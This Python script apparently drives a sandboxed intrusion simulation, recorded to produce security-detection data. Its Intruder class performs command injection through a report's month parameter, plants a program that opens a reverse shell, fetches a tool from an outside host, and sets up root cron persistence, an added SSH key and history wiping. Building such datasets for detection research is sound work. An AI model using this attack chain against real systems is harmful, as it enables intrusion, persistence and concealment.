# ruff: noqa: INP001 - a script beside others; it runs fixed programs of Debian
"""Plays the tale of intrusion while it is recorded: work on a host, users, and one intruder.

    falcotrace record -o raw.parquet -- python3 play.py FOLDER NETWORK TERMINAL SEED ROUNDS PEACE

In: a folder with bundles, which `record.py` makes; PEACE is 1 if nobody is to break in. Out:
`pid_namespaces.json` there, which names the namespaces whose events stay.
"""

import base64
import gzip
import os
import socket
import sys
import threading
import time
import urllib.parse
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from names import (
    APPLICATION_ADDRESS,
    APPLICATION_PORT,
    CONTAINER,
    HOST,
    Names,
    draw_names,
)
from peers import Visitors, ask, serve_internet
from sandboxes import drain, enter_network, start, write_namespaces

STEP_S = 0.4
"""Between two things that the intruder types."""

LEAST_S, LEAST_BEFORE_S, AFTER_S = 9.0, 3.5, 7.0
"""How long the tale is at least, what there is of it before the intruder and after: minutes of the
machines' cron are three seconds."""

BUSY_INTERVAL_S, QUIET_INTERVAL_S = 0.1, 0.8
"""Between two ordinary requests, with noise and without."""

DEADLINE_S = 500.0

OPERATOR_LINES = ("ls -l", "cat notes.txt", "uptime", "exit")


class Intruder:
    """Somebody with a browser and a server of their own."""

    def __init__(self, folder: Path, names: Names) -> None:
        self._names = names
        self._agent = (folder / "agent").read_bytes()

    def break_in(self) -> None:
        """Use the report as a shell, drop a program, and talk to the shell that it connects."""
        names = self._names
        with socket.create_server((names.address, names.shell_port)) as listener:
            listener.settimeout(20)
            for path in ("/", "/report?month=2026-10"):
                self._pause()
                ask("GET", path, names.address)
            self._command("id; uname -n -s -m")
            self._command(f"{names.decoder} > {names.program}", self._encoded())
            self._command(f"chmod 755 {names.program}")
            # What is waited for answers only when the intruder has left.
            threading.Thread(target=self._command, args=(names.start,), daemon=True).start()
            shell, _ = listener.accept()
        threading.Thread(target=drain, args=(shell,), daemon=True).start()
        for line in self._lines():
            self._pause()
            shell.sendall(f"{line}\n".encode())
        self._pause()
        shell.close()

    def _encoded(self) -> bytes:
        """The program in the form that the decoder takes."""
        if self._names.decoder.startswith("base64"):
            return base64.encodebytes(self._agent)
        return gzip.compress(self._agent) if "gzip" in self._names.decoder else self._agent

    def _command(self, command: str, body: bytes | None = None) -> None:
        """Ask for the report of a month whose name ends the program's own command."""
        self._pause()
        month = urllib.parse.quote(f"' /dev/null; {command} #")
        ask("GET" if body is None else "POST", f"/report?month={month}", self._names.address, body)

    def _lines(self) -> tuple[str, ...]:
        names = self._names
        address = f"http://{names.host}{names.file}"
        fetch = f"import urllib.request as u; u.urlretrieve('{address}', '{names.tool}')"
        return (
            "unset HISTFILE",
            "id; uname -n -s -m",
            "ps aux",
            "cat /etc/passwd",
            "ls -la /root /srv/orders",
            f'python3 -c "{fetch}"; chmod 755 {names.tool}',
            f"echo '* * * * * root {names.tool}' > {names.job}",
            f"echo '{names.key}' >> /root/.ssh/authorized_keys",
            "rm -f /root/.bash_history",
            f"rm -f {names.program}",
            "exit",
        )

    def _pause(self) -> None:
        time.sleep(STEP_S)


class Runner:
    """The host's ordinary work, which says itself how far it is."""

    def __init__(self, folder: Path, rounds: int) -> None:
        self._finished = folder / "host-root/opt/runner/finished"
        self._rounds = rounds

    def wait_for(self, share: float) -> None:
        """Wait until that share of the rounds is done.

        Raises:
            TimeoutError: the runner does not get on.
        """
        end = time.monotonic() + DEADLINE_S
        while self._done() < share * (self._rounds + 1):
            if time.monotonic() > end:
                raise TimeoutError(f"the runner has done {self._done()} rounds of {self._rounds}")
            time.sleep(0.1)

    def _done(self) -> int:
        text = self._finished.read_text() if self._finished.exists() else ""
        return int(text) + 1 if text.strip() else 0


def play(folder: Path, terminal: int, names: Names, rounds: int, *, is_peaceful: bool) -> None:
    """Play it; both machines go on afterwards."""
    for name in (CONTAINER, HOST):
        start(folder, name)
    write_namespaces(folder, (HOST, CONTAINER))
    begun = time.monotonic()
    _wait_for_application()
    visitors = Visitors(BUSY_INTERVAL_S if rounds else QUIET_INTERVAL_S)
    visitors.start()
    operator = threading.Thread(target=_work_on_terminal, args=(terminal,), daemon=True)
    operator.start()
    runner = Runner(folder, rounds)
    runner.wait_for(0.4)
    time.sleep(max(0.0, begun + LEAST_BEFORE_S - time.monotonic()))
    if not is_peaceful:
        Intruder(folder, names).break_in()
        time.sleep(AFTER_S)
    runner.wait_for(1)
    operator.join()
    time.sleep(max(0.0, begun + LEAST_S - time.monotonic()))
    visitors.stop()


def _wait_for_application() -> None:
    end = time.monotonic() + 20
    while True:
        try:
            socket.create_connection((APPLICATION_ADDRESS, APPLICATION_PORT), timeout=1).close()
        except OSError:
            if time.monotonic() > end:
                raise
            time.sleep(0.1)
        else:
            return


def _work_on_terminal(terminal: int) -> None:
    for line in OPERATOR_LINES:
        time.sleep(1.5)
        os.write(terminal, f"{line}\n".encode())


def main() -> None:
    """The command line."""
    folder, network, terminal, seed, rounds, peace = sys.argv[1:]
    names = draw_names(int(seed))
    threading.Thread(target=drain, args=(int(terminal),), daemon=True).start()
    enter_network(network)
    serve_internet(Path(folder), names)
    play(Path(folder), int(terminal), names, int(rounds), is_peaceful=peace == "1")


if __name__ == "__main__":
    main()
